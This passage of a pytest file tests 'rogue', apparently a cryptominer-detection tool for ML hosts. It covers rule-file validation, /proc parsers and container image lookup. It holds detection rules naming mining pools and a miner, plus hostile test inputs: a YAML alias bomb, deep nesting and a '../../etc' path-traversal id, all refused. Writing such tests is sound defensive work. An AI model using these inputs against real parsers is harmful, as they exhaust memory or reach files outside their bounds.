    ('allowlist:\n  - user: a\n    cmdline: x\n    expires: 2026-13-45\n', 4, None, 'cannot read the value'),
    ('pools: [!!binary "%%%"]\n', 1, 'pools[0]', 'expected a non-empty string, got bytes'),
    ('pools: [!!binary "a"]\n', 1, None, 'cannot read the value'),
    ("pools: ['\x00']\n", None, None, 'not valid YAML'),
])
def test_rules_text_errors(text, line, field, why):
    with pytest.raises(rogue.RulesError) as exc:
        rogue.load_config(text=text)
    assert exc.value.line == line
    assert exc.value.field == field
    assert why in exc.value.why


def test_rules_errors_are_all_reported_with_their_lines():
    text = ('pools: ["not a host!", 203.0.113.7]\npool_ports: [0, 80, 70000]\ncolour: red\nrules:\n  - id: r\n    kind: sof\n'
            '    weight: 500\n    description: d\n    match: {cmdline: x, cmdlin: y}\nwindow: 5s\n')
    with pytest.raises(rogue.RulesError) as exc:
        rogue.load_config(text=text)
    assert [(line, field) for _source, line, field, _why in exc.value.errors] == [
        (1, 'pools[0]'), (2, 'pool_ports[0]'), (2, 'pool_ports[2]'), (3, 'colour'), (6, 'rules[0].kind'), (7, 'rules[0].weight'),
        (9, 'rules[0].match.cmdlin'), (10, 'window')]
    assert str(exc.value).splitlines()[5] == '<rules text>:7: rules[0].weight: 500 is out of range 0-100'


@pytest.mark.parametrize('name, text, why', [
    ('rogue.json', '{"pools": ["203.0.113.7"],}', 'line 1, column 27: JSON syntax error: '),
    ('rogue.toml', 'pools = ["203.0.113.7"\nx = 1\n', 'line 2, column 1: TOML syntax error: '),
    ('rogue.json', '{"pool_ports": [0], "colour": 1}', ': pool_ports[0]: 0 is out of range 1-65535'),
])
def test_rules_files_in_json_and_toml_use_their_own_parser(tmp_path, name, text, why):
    path = tmp_path / name
    path.write_text(text)
    with pytest.raises(rogue.RulesError) as exc:
        rogue.load_config(rules_file=str(path))
    assert why in str(exc.value) and str(exc.value).startswith(str(path) + ': ')
    path.write_text('{"pools": ["203.0.113.7"]}' if name.endswith('json') else 'pools = ["203.0.113.7"]\n')
    assert rogue.load_config(rules_file=str(path)).pool_networks


def test_rules_file_read_errors(tmp_path):
    with pytest.raises(rogue.RulesError) as exc:
        rogue.load_config(rules_file=str(tmp_path / 'missing.yml'))
    assert 'cannot read the rules file' in str(exc.value)
    path = tmp_path / 'latin1.yml'
    path.write_bytes(b'pools: ["\xe9"]\n')
    with pytest.raises(rogue.RulesError) as exc:
        rogue.load_config(rules_file=str(path))
    assert 'not UTF-8' in str(exc.value)
    path.write_bytes(b'# x\n' * (rogue.MAX_RULES_FILE // 4 + 1))
    with pytest.raises(rogue.RulesError) as exc:
        rogue.load_config(rules_file=str(path))
    assert 'larger than' in str(exc.value)
    with pytest.raises(rogue.RulesError) as exc:
        rogue.load_config(text='[' * 5000)
    assert exc.value.source == '<rules text>'


def test_rules_files_have_the_policy_limits_on_nesting_and_aliases():
    """The rules file is read with the policy's loader: an alias bomb or deep nesting is refused while composing."""
    with pytest.raises(rogue.RulesError) as exc:
        rogue.load_config(text=billion_laughs())
    assert exc.value.line == BOMB_LINE and exc.value.why == TOO_MANY_ALIASED
    with pytest.raises(rogue.RulesError) as exc:
        rogue.load_config(text='pools: ' + '[' * 40 + ']' * 40 + '\n')
    assert exc.value.why == TOO_DEEP
    assert rogue.load_config(text='pools: &p ["203.0.113.7"]\nminer_names: [xmr-fork]\n').warnings == []


def test_inline_rules_errors_have_no_line():
    with pytest.raises(rogue.RulesError) as exc:
        rogue.load_config(rules={'rules': [{'id': 'r', 'kind': 'soft', 'weight': 500, 'description': 'd', 'match': {'cmdline': 'x'}}]})
    assert (exc.value.source, exc.value.line, exc.value.field) == ('rules (inline)', None, 'rules[0].weight')
    assert str(exc.value) == 'rules (inline): rules[0].weight: 500 is out of range 0-100'


def test_empty_and_valid_documents(tmp_path):
    path = tmp_path / 'empty.yml'
    path.write_text('# nothing yet\n')
    cfg = rogue.load_config(rules_file=str(path), rules={'pools': ['pool.example.org', '198.51.100.0/24', '*.evil.example']})
    assert 'pool.example.org' in cfg.pool_domains and 'evil.example' in cfg.pool_domains
    assert ipaddress.ip_network('198.51.100.0/24') in cfg.pool_networks
    assert [r[0] for r in cfg.rules()] == [r[0] for r in R.BUILTIN_RULES]


def test_every_builtin_rule_has_a_check_and_description():
    assert set(rogue.BUILTIN_CHECKS) == set(r[0] for r in R.BUILTIN_RULES)
    for rid, kind, weight, description in R.BUILTIN_RULES:
        assert kind in R.KINDS and 0 < weight <= 100 and description
        assert rid[0] == {'hard': 'H', 'soft': 'S', 'behavioural': 'B'}[kind]


# ---------------------------------------------------------------------------- facts and /proc parsers
def test_from_dict_rejects_unknown_keys_and_accepts_strings():
    with pytest.raises(ValueError):
        rogue.ProcessFacts.from_dict({'pid': 1, 'cmd': 'x'})
    item = rogue.ProcessFacts.from_dict({'pid': 1, 'cmdline': 'python "a b.py" -x', 'env': ['A=1', 'B'],
                                         'connections': ['bad', '1.2.3.4:99999', '1.2.3.4:80']})
    assert item.cmdline == ['python', 'a b.py', '-x']
    assert item.env == {'A': '1', 'B': ''}
    assert [c.text() for c in item.connections] == ['1.2.3.4:80']
    assert rogue.ProcessFacts.from_dict({'cmdline': b'a\x00b\x00'}).cmdline == ['a', 'b']
    assert rogue.ProcessFacts.from_dict({'cmdline': 'unclosed "quote'}).cmdline == ['unclosed', '"quote']
    assert rogue.ProcessFacts.from_dict({'cmdline': [b'\xff\xfe', 'ok\udcff']}).cmdline == ['\ufffd\ufffd', 'ok\ufffd']


def test_parse_options():
    opts = rogue.parse_options(['x', '--a=1', '-b', '2', '-c', '--d', '-5', '--', '-e', '-1'])
    assert [(o.index, o.flag, o.value) for o in opts] == [(1, '--a', '1'), (2, '-b', '2'), (4, '-c', None), (5, '--d', '-5'),
                                                          (8, '-e', '-1')]
    assert opts[0].text() == '--a=1' and opts[1].text() == '-b 2'


def test_parse_proc_net_tcp():
    text = ('  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n'
            '   0: 0100007F:0CEA 0100007F:A2F4 01 00000000:00000000 00:00000000 00000000  1000        0 54321 1 0 20 4 30 10 -1\n'
            '   1: 00000000:0CEA 00000000:0000 0A 00000000:00000000 00:00000000 00000000  1000        0 54322 1 0 20 4 30 10 -1\n'
            '   garbage\n')
    conns = rogue.parse_proc_net_tcp(text)
    assert list(conns) == [54321]
    assert conns[54321].text() == '127.0.0.1:41716' and conns[54321].state == 'ESTABLISHED'
    text6 = ('  sl  local_address                         remote_address                        st tx_queue rx_queue tr tm->when '
             'retrnsmt   uid  timeout inode\n'
             '   0: 00000000000000000000000001000000:1F90 0000000000000000FFFF00000900710C:0D05 01 00000000:00000000 00:00000000 '
             '00000000     0        0 777 1 0 20 4 30 10 -1\n'
             '   1: 00000000000000000000000001000000:1F90 B80D0120000000000000000005000000:0D05 02 00000000:00000000 00:00000000 '
             '00000000     0        0 778 1 0 20 4 30 10 -1\n')
    conns = rogue.parse_proc_net_tcp(text6, ipv6=True)
    assert conns[777].text() == '12.113.0.9:3333'
    assert conns[778].text() == '[2001:db8::5]:3333' and conns[778].state == 'SYN_SENT'


def test_parse_environ_and_maps():
    assert rogue.parse_environ(b'A=1\x00B=x=y\x00junk\x00\xff=\xfe\x00') == {'A': '1', 'B': 'x=y', '\ufffd': '\ufffd'}
    maps = ('7f00-7f01 r-xp 00000000 08:01 1 /usr/lib/libc.so.6\n'
            '7f01-7f02 r-xp 00000000 08:01 1 /usr/lib/libc.so.6\n'
            '7f02-7f03 rw-p 00000000 00:00 0 \n'
            '7f03-7f04 r-xp 00000000 08:01 2 /opt/x/libtorch_cuda.so (deleted)\n'
            '7f04-7f05 r--p 00000000 08:01 3 /usr/lib/locale/C.utf8/LC_CTYPE\n'
            '7f05-7f06 r-xp 00000000 00:00 0 [vdso]\n')
    assert rogue.parse_maps(maps) == ['/usr/lib/libc.so.6', '/opt/x/libtorch_cuda.so']
    assert rogue.ml_libraries(['/opt/x/libtorch_cuda.so', '/usr/lib/libc.so.6']) == ['libtorch_cuda.so']


def test_is_public():
    assert rogue.is_public(ipaddress.ip_address('45.9.148.21'))
    assert rogue.is_public(ipaddress.ip_address('203.0.113.5'))           # documentation ranges count as public
    for text in ('10.1.1.1', '172.16.0.1', '192.168.0.1', '127.0.0.1', '169.254.1.1', '100.64.0.1', '::1', 'fe80::1', 'fd00::1'):
        assert not rogue.is_public(ipaddress.ip_address(text))


def test_container_image_reader(tmp_path):
    cid = 'ab' * 32
    docker = tmp_path / 'var/lib/docker/containers' / cid
    docker.mkdir(parents=True)
    (docker / 'config.v2.json').write_text('{"Config": {"Image": "nvcr.io/nvidia/pytorch:24.01-py3"}, "Image": "sha256:%s"}' % ('1' * 64))
    assert rogue.container_image(cid, str(tmp_path)) == ('nvcr.io/nvidia/pytorch:24.01-py3', 'sha256:' + '1' * 64)
    cid2 = 'cd' * 32
    cri = tmp_path / 'run/containerd/io.containerd.runtime.v2.task/k8s.io' / cid2
    cri.mkdir(parents=True)
    (cri / 'config.json').write_text('{"annotations": {"io.kubernetes.cri.image-name": "docker.io/vllm/vllm-openai:v0.5.0"}}')
    assert rogue.container_image(cid2, str(tmp_path)) == ('docker.io/vllm/vllm-openai:v0.5.0', None)
    assert rogue.container_image('ef' * 32, str(tmp_path)) == (None, None)
    assert rogue.container_image('../../etc', str(tmp_path)) == (None, None)
